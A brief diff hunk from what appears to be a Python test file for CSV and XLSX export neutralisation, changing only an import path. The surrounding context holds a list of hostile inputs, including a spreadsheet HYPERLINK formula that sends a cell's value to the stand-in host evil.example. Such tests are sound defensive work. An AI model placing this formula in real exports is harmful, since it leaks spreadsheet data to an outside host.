@@ -9,7 +9,7 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 
-from portal.exports import csv_bytes, neutralise, xlsx_bytes
+from portal.staff.exports import csv_bytes, neutralise, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"開く")',
